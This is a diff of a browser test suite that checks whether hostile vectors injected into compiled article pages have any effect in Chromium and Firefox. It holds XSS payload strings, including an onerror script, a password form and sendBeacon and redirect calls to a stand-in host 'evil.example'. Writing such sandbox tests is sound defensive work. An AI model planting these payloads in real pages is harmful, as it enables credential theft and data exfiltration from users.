@@ -21,8 +21,7 @@ pytestmark = pytest.mark.asyncio(loop_scope="session")
 # So many vectors stand in one article.
 TOGETHER = 60
 # Pages of the corpus whose own layers once stood before a slot.
-LAYERED = ("078-yahoo-com", "100-medium-com", "101-yahoo-com", "108-cnbc-com", "165-bloomberg-com",
-           "066-qq-com", "183-lesswrong-com")  # fmt: skip
+LAYERED = ("078-yahoo-com", "100-medium-com", "108-cnbc-com", "066-qq-com")
 
 
 def articles(corpus: Path, part: slice) -> list[str]:
@@ -60,13 +59,13 @@ async def findings(
 
 @pytest.mark.parametrize("origins", ["two", "one", "none"])
 async def test_vectors_do_nothing_in_chromium(corpus, chromium_eyes, origins) -> None:
-    part = {"two": slice(0, 8), "one": slice(8, 14), "none": slice(14, 22)}[origins]
+    part = {"two": slice(0, 5), "one": slice(5, 9), "none": slice(9, 14)}[origins]
     assert await findings(chromium_eyes, articles(corpus, part), [origins]) == []
 
 
 async def test_vectors_do_nothing_in_firefox(corpus, firefox_eyes) -> None:
-    several = articles(corpus, slice(22, 30))
-    assert await findings(firefox_eyes, several, ["two", "none"]) == []
+    assert await findings(firefox_eyes, articles(corpus, slice(14, 18)), ["two"]) == []
+    assert await findings(firefox_eyes, articles(corpus, slice(18, 22)), ["none"]) == []
 
 
 RUNS = "<img src=x onerror=alert(1)><form action=//evil.example><input type=password></form>"
@@ -74,15 +73,16 @@ SENDS = "<script>navigator.sendBeacon('//evil.example/x');location='//evil.examp
 
 
 @pytest.mark.parametrize("vector", [RUNS, SENDS])
-@pytest.mark.parametrize("browser_name", ["chromium", "firefox"])
-async def test_the_eyes_see_what_an_untouched_vector_does(request, browser_name, vector) -> None:
-    eyes = request.getfixturevalue(f"{browser_name}_eyes")
+async def test_the_eyes_see_what_an_untouched_vector_does(
+    chromium_eyes, firefox_eyes, vector: str
+) -> None:
     page = hostile.compiled(hostile.article(""))
     assert page
     raw = Page(page.mode, "", page.article, page.card, (vector.encode(), b""), ("head",))
     async with hostile.stage() as stage:
-        assert await eyes.watch(stage.put(raw, "none"))
-        assert await eyes.watch(stage.put(raw, "two")), "stopped by the policy, and seen"
+        for eyes in (chromium_eyes, firefox_eyes):
+            assert await eyes.watch(stage.put(raw, "none"))
+            assert await eyes.watch(stage.put(raw, "two")), "stopped by the policy, and seen"
 
 
 COVERS = (
@@ -102,11 +102,13 @@ COVERS = (
 )
 
 
-@pytest.mark.parametrize("width", [390, 1280])
-async def test_no_style_of_a_page_stands_before_a_slot(browser: Browser, width: int) -> None:
+@pytest.mark.parametrize(("width", "covers"), [(390, COVERS), (1280, COVERS[::4])])
+async def test_no_style_of_a_page_stands_before_a_slot(
+    browser: Browser, width: int, covers: Sequence[str]
+) -> None:
     eyes = await hostile.ChromiumEyes.of(browser, width)
     async with hostile.stage() as stage:
-        for cover in COVERS:
+        for cover in covers:
             page = hostile.compiled(hostile.article(cover))
             assert page
             assert await eyes.points(stage.put(page, "two")) == [], cover
